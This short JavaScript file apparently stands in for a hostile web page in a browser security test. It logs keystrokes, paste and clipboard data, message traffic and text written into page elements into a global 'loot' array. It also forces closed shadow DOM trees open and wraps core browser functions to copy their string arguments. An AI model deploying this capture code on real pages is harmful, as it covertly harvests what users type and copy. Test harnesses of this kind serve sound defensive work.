// First in every hostile page: what gets to its document, but for what is put into the field #code itself. It
// opens the shadow trees that were to be closed, and looks over the shoulder of whatever a page can replace.

globalThis.loot = [];
globalThis.trees = [];

const keep = (what) => globalThis.loot.push(typeof what === "string" ? what : `${JSON.stringify(what)}`);

addEventListener("message", ({ data }) => keep(data), true);
for (const type of ["paste", "keydown", "beforeinput", "input", "change", "copy"])
  addEventListener(
    type,
    (event) => {
      const target = event.composedPath()[0];
      if (target.id !== "code")
        keep(event.key ?? event.data ?? event.clipboardData?.getData("text") ?? target.value ?? "");
    },
    true,
  );

const { attachShadow } = Element.prototype;
Element.prototype.attachShadow = function (init) {
  const tree = attachShadow.call(this, init);
  globalThis.trees.push(tree);
  return tree;
};
for (const [of, name] of [
  [HTMLInputElement.prototype, "value"],
  [Node.prototype, "textContent"],
  [CharacterData.prototype, "data"],
]) {
  const { get, set } = Object.getOwnPropertyDescriptor(of, name);
  Object.defineProperty(of, name, {
    get,
    set(text) {
      if (this.id !== "code") keep(text);
      set.call(this, text);
    },
  });
}
for (const [of, name] of [
  [window, "postMessage"],
  [MessagePort.prototype, "postMessage"],
  [EventTarget.prototype, "dispatchEvent"],
  [DataTransfer.prototype, "setData"],
  [Document.prototype, "execCommand"],
  [JSON, "stringify"],
  [Array.prototype, "join"],
]) {
  const real = of[name];
  of[name] = function (...args) {
    for (const each of args) if (typeof each === "string") globalThis.loot[globalThis.loot.length] = each;
    return real.apply(this, args);
  };
}
